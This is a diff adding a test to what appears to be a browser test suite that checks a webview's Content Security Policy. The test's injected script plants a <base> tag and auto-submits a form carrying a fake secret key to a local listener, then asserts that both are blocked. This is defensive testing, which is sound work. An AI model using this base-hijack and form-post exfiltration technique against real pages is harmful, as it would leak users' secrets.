@@ -86,6 +86,33 @@ describe('webview page under its CSP (A1, A2)', function () {
     assert.equal(listener.hits(), 0, listener.requests.join(', '));
   });
 
+  it('A1 a form cannot post and a <base> cannot re-point URLs, even when the page\'s own script makes them', async () => {
+    await runTrusted(`
+      const base = document.createElement('base');
+      base.href = '${listener.origin}/based/';
+      document.head.append(base);
+      const link = document.createElement('a');
+      link.href = 'relative';
+      window.probe = { resolved: link.href };
+      const form = document.createElement('form');
+      form.method = 'post';
+      form.action = '${listener.origin}/form';
+      const field = document.createElement('input');
+      field.name = 'secret';
+      field.value = 'sk-from-the-page';
+      form.append(field);
+      document.body.append(form);
+      form.submit();
+    `);
+    await settle(page, 2, 300);
+    const probe = (await page.evaluate(() => (window as unknown as { probe?: { resolved: string } }).probe));
+    assert.ok(probe && !probe.resolved.startsWith(listener.origin), `the base was applied: ${probe?.resolved}`);
+    assert.equal(listener.hits(), 0, listener.requests.join(', '));
+    const violations = await page.evaluate(() => (window as unknown as { violations: string[] }).violations);
+    assert.ok(violations.some((v) => v.startsWith('base-uri')), violations.join('\n'));
+    assert.ok(violations.some((v) => v.startsWith('form-action')), violations.join('\n'));
+  });
+
   it('A1 G6 the payload corpus causes no CSP violation: the renderer emits nothing the CSP has to block', async () => {
     const corpus = loadCorpus('payloads.txt', listener);
     assert.deepEqual(await renderAnswers(page, corpus.map((p, i) => ({ id: `g6-${i}`, text: p.text }))), []);
